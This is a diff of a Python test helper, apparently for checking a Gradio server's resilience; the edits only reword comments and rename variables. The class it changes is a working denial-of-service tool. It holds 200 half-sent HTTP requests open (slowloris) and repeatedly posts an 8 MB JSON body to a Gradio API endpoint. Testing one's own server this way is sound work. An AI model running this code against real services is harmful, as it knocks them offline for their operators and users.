@@ -1,4 +1,4 @@
-"""An attacker of the Space: half-sent requests and wide JSON, as fast as the server lets it."""
+"""Attacker of the Space: half-sent requests and wide JSON, as fast as the server allows."""
 
 import contextlib
 import socket
@@ -7,15 +7,15 @@ from urllib.parse import urlsplit
 
 import httpx
 
-HALF_SENT = 200  # requests that are kept open
+HALF_SENT = 200  # open requests
 HALF = b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "
-WIDE = b'{"data":[[' + b"{}," * 2_700_000 + b"{}]]}"  # 8 MB, which a parser makes 2.7 M values of
+WIDE = b'{"data":[[' + b"{}," * 2_700_000 + b"{}]]}"  # 8 MB, parsed to 2.7 M values
 PAUSE = 0.5  # seconds between two rounds
 PATIENCE = 60.0  # seconds for an answer
 
 
 class SpaceAttacker:
-    """Attacks from a thread, inside the `with`.
+    """Attacks from a thread, as a context manager.
 
     Args:
         address: The server, such as `http://127.0.0.1:7860/`.
@@ -36,8 +36,8 @@ class SpaceAttacker:
     def __exit__(self, *error: object) -> None:
         self._ended.set()
         self._thread.join()
-        for one in self._held:
-            one.close()
+        for connection in self._held:
+            connection.close()
 
     def _attack(self) -> None:
         while not self._ended.wait(PAUSE):
@@ -46,12 +46,12 @@ class SpaceAttacker:
                 httpx.post(f"{self._address}gradio_api/call/limits", content=WIDE, timeout=PATIENCE)
 
     def _send_halves(self) -> None:
-        """Keep as many half-sent requests open as there are to be."""
-        self._held = [one for one in self._held if not _is_closed(one)]
+        """Refill the open half-sent requests."""
+        self._held = [connection for connection in self._held if not _is_closed(connection)]
         while len(self._held) < HALF_SENT:
             opened = socket.create_connection(self._place, timeout=PATIENCE)
             opened.sendall(HALF)
-            opened.settimeout(0.0)  # it is only ever asked whether it was closed
+            opened.settimeout(0.0)  # only polled for being closed
             self._held.append(opened)
 
 
